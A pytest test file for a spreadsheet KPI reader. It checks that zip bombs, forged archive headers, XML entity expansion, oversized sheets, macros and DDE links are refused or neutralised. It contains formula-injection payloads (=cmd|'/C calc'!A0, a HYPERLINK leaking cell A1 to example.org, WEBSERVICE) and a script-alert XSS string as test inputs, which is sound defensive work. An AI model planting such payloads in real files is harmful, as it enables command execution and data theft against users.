"""Files made to harm: refused before they are parsed, or read with nothing live left in them."""

from __future__ import annotations

import csv
import io
import resource
import socket
import struct
import zipfile

import openpyxl
import pytest

from goldenthread import kpis
from goldenthread.kpis import archive, safe
from tests.kpis import made

#: What a spreadsheet program would run, fetch or follow.
LIVE = (
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x01=1+1",
    "＝1+1",
    "<script>alert(1)</script>",
)


def _refused(path, *words):
    with pytest.raises(kpis.KpiError) as caught:
        kpis.read(path)
    message = str(caught.value)
    assert message.startswith(path.name)
    for word in words:
        assert word in message, message
    return message


# --- archives --------------------------------------------------------------------------------------


def test_a_sheet_that_unpacks_to_a_thousand_times_its_size_is_refused(tmp_path):
    path = made.workbook(tmp_path / "bomb.xlsx")
    made.changed(path, "xl/worksheets/sheet1.xml", lambda part: part + b" " * 12_000_000)
    assert path.stat().st_size < 50_000
    _refused(path, "unpacks to far more", "template")


def test_a_part_that_packs_as_bombs_do_is_refused_though_small(tmp_path):
    path = made.workbook(tmp_path / "bomb.xlsx")
    made.changed(path, "xl/sharedStrings.xml", lambda part: b"<si/>" * 3_000_000)
    _refused(path, "unpacks to far more")


def test_an_unwanted_part_counts_too(tmp_path):
    path = made.workbook(tmp_path / "bomb.xlsx")
    made.changed(path, "xl/media/image1.png", lambda part: b"\0" * 12_000_000)
    _refused(path, "unpacks to far more")


def test_a_size_that_is_a_lie_is_found_out(tmp_path):
    path = made.workbook(tmp_path / "liar.xlsx")
    content = bytearray(path.read_bytes())
    # The central directory says that the last part has ten bytes.
    at = content.rfind(b"PK\x01\x02")
    content[at + 24 : at + 28] = struct.pack("<I", 10)
    path.write_bytes(content)
    _refused(path, "damaged")


def test_parts_that_share_their_bytes_are_refused(tmp_path):
    path = tmp_path / "overlap.xlsx"
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("xl/workbook.xml", bytes(range(256)) * 4000)
    content = whole.getvalue()
    at = content.find(b"PK\x01\x02")
    end = content.find(b"PK\x05\x06")
    entry, tail = content[at:end], bytearray(content[end:])
    many = 50
    names = [entry.replace(b"xl/workbook.xml", b"xl/work%04d.xml" % n) for n in range(many)]
    tail[8:12] = struct.pack("<HH", many, many)
    tail[12:16] = struct.pack("<I", sum(map(len, names)))
    path.write_bytes(content[:at] + b"".join(names) + bytes(tail))
    _refused(path)


def test_entities_are_refused(tmp_path):
    path = made.workbook(tmp_path / "laughs.xlsx")
    laughs = b'<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]>'
    made.changed(
        path, "xl/workbook.xml", lambda part: part.replace(b"<workbook", laughs + b"<workbook", 1)
    )
    _refused(path, "entities")


def test_other_encodings_of_xml_are_refused(tmp_path):
    path = made.workbook(tmp_path / "wide.xlsx")
    made.changed(path, "xl/worksheets/sheet1.xml", lambda part: part.decode().encode("utf-16"))
    _refused(path, "UTF-8")


def test_a_locked_workbook_is_named_as_one(tmp_path):
    path = tmp_path / "locked.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000)
    _refused(path, "password")


@pytest.mark.parametrize(
    "content", [b"PK", b"PK\x03\x04rest", b"", b"%PDF-1.7", b"<html><body>Sign in</body></html>"]
)
def test_what_is_no_workbook_is_refused(tmp_path, content):
    path = tmp_path / "kpis.xlsx"
    path.write_bytes(content)
    assert "save it anew" in _refused(path).lower()


def test_a_workbook_cut_short_is_refused(tmp_path):
    path = made.workbook(tmp_path / "short.xlsx")
    path.write_bytes(path.read_bytes()[:-300])
    _refused(path, "damaged or cut short")


def test_an_archive_of_something_else_is_refused(tmp_path):
    path = tmp_path / "letter.xlsx"
    path.write_bytes(made.zipped({"word/document.xml": "<w/>"}))
    _refused(path, "not a workbook of Excel")


def test_a_workbook_larger_inside_than_one_of_kpis_is_refused(tmp_path, monkeypatch):
    path = made.workbook(tmp_path / "large.xlsx")
    monkeypatch.setattr(archive, "UNPACKED", 5_000)
    _refused(path, "unpacks to far more")


# --- sheets ----------------------------------------------------------------------------------------


def _with_cell(tmp_path, reference):
    path = made.workbook(tmp_path / "wide.xlsx")
    row = "".join(filter(str.isdigit, reference))
    far = f'<row r="{row}"><c r="{reference}"><v>1</v></c></row></sheetData>'.encode()
    made.changed(path, "xl/worksheets/sheet1.xml", lambda part: part.replace(b"</sheetData>", far))
    return path


@pytest.mark.parametrize("reference", ["XFD1048576", "A1048576", "XFD9999", "ZZ99999"])
def test_two_cells_far_apart_do_not_fill_the_memory(tmp_path, reference):
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    _refused(_with_cell(tmp_path, reference), "‘Figures’", "Delete the empty")
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200_000


def test_two_sheets_of_one_name_hide_nothing(tmp_path):
    path = made.workbook(tmp_path / "twins.xlsx", One=made.LONG, Two=made.LONG)
    far = b'<row r="9999"><c r="XFD9999"><v>1</v></c></row></sheetData>'
    made.changed(path, "xl/worksheets/sheet1.xml", lambda p: p.replace(b"</sheetData>", far))
    made.changed(path, "xl/workbook.xml", lambda p: p.replace(b'"Two"', b'"One"'))
    _refused(path, "Delete the empty")


@pytest.mark.parametrize(
    "written", ["r='XFD9999'", 'r = "XFD9999"', 'r="xfd9999"', '\tr="XFD9999"']
)
def test_a_reference_in_another_spelling_hides_nothing(tmp_path, written):
    path = made.workbook(tmp_path / "spelt.xlsx")
    far = f'<row r="9999"><c {written}><v>1</v></c></row></sheetData>'.encode()
    made.changed(path, "xl/worksheets/sheet1.xml", lambda p: p.replace(b"</sheetData>", far))
    _refused(path, "Delete the empty")


def test_a_far_cell_with_a_format_and_nothing_in_it_does_no_harm(tmp_path):
    path = made.workbook(tmp_path / "formatted.xlsx")
    far = b'<row r="900"><c r="XFD900" s="0"/></row></sheetData>'
    made.changed(path, "xl/worksheets/sheet1.xml", lambda part: part.replace(b"</sheetData>", far))
    assert kpis.read(path).ok


def test_a_million_rows_are_refused(tmp_path):
    path = tmp_path / "million.csv"
    path.write_text("KPI,Period,Value\n" + "Bins,Q1,1\n" * 1_000_000)
    _refused(path, "400,000 rows", "divide it by year")


def test_a_shared_text_in_many_cells_does_not_fill_the_memory():
    strings = b"<sst><si><t>" + b"x" * 30_000 + b"</t></si><si><t>y</t></si></sst>"
    many = b'<c r="A1" t="s"><v>0</v></c>' * 100_000
    with pytest.raises(kpis.KpiError, match="far more"):
        archive.texts(strings, {"Figures": many})
    archive.texts(strings, {"Figures": many.replace(b"<v>0<", b"<v>1<")})


@pytest.mark.parametrize(
    "body",
    [
        # A value that fills a whole sheet.
        '<table:table-row table:number-rows-repeated="1048576"><table:table-cell '
        'table:number-columns-repeated="16384" office:value-type="float" office:value="1">'
        "<text:p>1</text:p></table:table-cell></table:table-row>",
        # A million empty rows, and then a cell.
        '<table:table-row table:number-rows-repeated="1000000"><table:table-cell/></table:table-row>'
        "<table:table-row>" + made.cells(["end"]) + "</table:table-row>",
        # A cell at the far right of many rows.
        '<table:table-row table:number-rows-repeated="9000"><table:table-cell '
        'table:number-columns-repeated="16000"/>' + made.cells(["end"]) + "</table:table-row>",
    ],
)
def test_repeated_cells_of_an_opendocument_sheet_do_not_fill_the_memory(tmp_path, body):
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    path = made.ods(tmp_path / "kpis.ods", f'<table:table table:name="F">{body}</table:table>')
    _refused(path)
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200_000


def test_an_opendocument_sheet_that_ends_in_repeated_empty_cells_is_read(tmp_path):
    table = made.ods_table(made.LONG).replace(
        "</table:table>",
        '<table:table-row table:number-rows-repeated="1048569"><table:table-cell '
        'table:number-columns-repeated="16384"/></table:table-row></table:table>',
    )
    assert kpis.read(made.ods(tmp_path / "kpis.ods", table)).frame["value"].sum() == 375


# --- macros, links, formulas -----------------------------------------------------------------------


def test_macros_are_neither_run_nor_kept(tmp_path):
    path = made.workbook(tmp_path / "kpis.xlsx")
    made.changed(path, "xl/vbaProject.bin", lambda part: b"Attribute VB_Name")
    found = kpis.read(path.rename(tmp_path / "kpis.xlsm"))
    assert found.ok
    assert any(
        "macros" in str(one) and "neither run nor read" in str(one) for one in found.warnings
    )


def test_links_to_other_files_and_programs_are_not_followed(tmp_path):
    path = made.workbook(tmp_path / "kpis.xlsx")
    dde = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
    made.changed(path, "xl/externalLinks/externalLink1.xml", lambda part: dde)
    found = kpis.read(path)
    assert found.ok
    assert any("not followed" in str(one) for one in found.warnings)


def test_nothing_is_fetched(tmp_path, monkeypatch):
    def refuse(*arguments, **options):
        raise AssertionError("a connection was opened")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    own = kpis.read(made.workbook(tmp_path / "kpis.xlsx"))
    card = kpis.scorecard(own)
    kpis.finding(own, "Missed bins")
    kpis.control_chart(own, "Missed bins").html()
    kpis.save(own, tmp_path / "clean.xlsx")
    kpis.save_scorecard(card, tmp_path / "card.html")


def _poisoned(tmp_path):
    rows = [
        (
            "KPI",
            "Period",
            "Value",
            "Target",
            "Polarity",
            "Owner",
            "Service",
            "Comment",
            "Definition",
        ),
        *(
            (f"{live} {number}", "Q1 2024/25", number, 5, "low", live, live, live, live)
            for number, live in enumerate(LIVE)
        ),
    ]
    path = tmp_path / "poisoned.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    return path


def _is_live(text):
    stripped = text.lstrip("\u00a0\u200b\ufeff \x01")
    return stripped.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))


def test_no_output_carries_a_live_formula(tmp_path):
    own = kpis.read(_poisoned(tmp_path))
    assert len(own.names) == len(LIVE)
    card = kpis.scorecard(own)
    kpis.save(own, tmp_path / "clean.xlsx")
    kpis.save(own, tmp_path / "clean.csv")
    for kind in ("xlsx", "csv", "html"):
        kpis.save_scorecard(card, tmp_path / f"card.{kind}")
    texts = []
    for name in ("clean.xlsx", "card.xlsx"):
        for sheet in openpyxl.load_workbook(tmp_path / name):
            for cell in (cell for row in sheet.iter_rows() for cell in row):
                assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                assert cell.hyperlink is None
                texts += [cell.value] if isinstance(cell.value, str) else []
    for name in ("clean.csv", "card.csv"):
        with (tmp_path / name).open(encoding="utf-8-sig", newline="") as file:
            texts += [cell for row in csv.reader(file) for cell in row]
    texts += [
        str(cell)
        for frame in (own.frame, own.definitions, card)
        for cell in frame.to_numpy().ravel()
        if isinstance(cell, str)
    ]
    assert len(texts) > 50
    assert not [text for text in texts if _is_live(text)]
    page = (tmp_path / "card.html").read_text(encoding="utf-8")
    assert "<script>alert" not in page
    for name in own.names:
        assert "<script>alert" not in kpis.finding(own, name)._repr_html_()
    assert "<script>alert" not in kpis.control_chart(own, own.names[-1]).html_with_table()


def test_a_sheet_named_as_a_formula_is_no_formula_in_the_report(tmp_path):
    rows = [("KPI", "Period", "Value"), ("Bins", "Q1 2024/25", "4O"), ("Bins", "Q2 2024/25", 4)]
    own = kpis.read(made.workbook(tmp_path / "kpis.xlsx", **{"=cmd|' '!A0": rows}))
    for table in (own.problems_table(), own.frame):
        texts = [cell for cell in table.to_numpy().ravel() if isinstance(cell, str)]
        assert texts
        assert not [text for text in texts if _is_live(text)]


def test_a_formula_counts_by_its_saved_result_and_is_never_worked_out(tmp_path):
    path = made.workbook(tmp_path / "kpis.xlsx")

    def formula(part):
        assert b"<v>41</v>" in part
        return part.replace(b"<v>41</v>", b"<f>WEBSERVICE(&quot;http://x&quot;)</f><v>17</v>")

    made.changed(path, "xl/worksheets/sheet1.xml", formula)
    found = kpis.read(path)
    assert found.ok
    assert found.frame["value"].iloc[0] == 17


@pytest.mark.parametrize(
    "text", ["to" * 60_000, "1" * 60_000 + "x", " " * 60_000 + "y", "Q1 " * 30_000, "1," * 40_000]
)
def test_a_text_without_end_takes_no_time_without_end(tmp_path, text):
    row = [text, text, text, text]
    path = tmp_path / "long.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(
            [("KPI", "Period", "Value", "Target"), row, ("Bins", "Q1 2024/25", text, text)]
        )
    assert len(kpis.read(path).errors) >= 2


def test_a_row_of_nothing_but_commas_is_refused(tmp_path):
    path = tmp_path / "commas.csv"
    path.write_text("KPI,Period,Value\n" + "," * 9_000_000)
    _refused(path, "8,000,000 cells")


def test_thousands_of_rows_that_stand_twice_are_said_together(tmp_path):
    rows = [f"KPI {n},Q1 2024/25,{n}\n" for n in range(5_000)]
    path = tmp_path / "twice.csv"
    path.write_text("KPI,Period,Value\n" + "".join(rows) * 2 + "KPI 4999,Q1 2024/25,7\n")
    own = kpis.read(path)
    assert len(own.frame) == 5_000
    assert own.frame["value"].notna().sum() == 4_999
    assert sum(len(one.cells) for one in own.warnings) == 4_999
    assert sum(len(one.cells) for one in own.errors) == 3
    assert len(own.problems) < 600


def test_hidden_letters_and_marks_that_turn_text_round_are_taken_off():
    assert safe.text("pay\u202e0001\u202c\x07") == "pay0001"


def test_a_text_without_end_is_kept_short():
    assert len(safe.text("x" * 100_000)) == safe.LONGEST
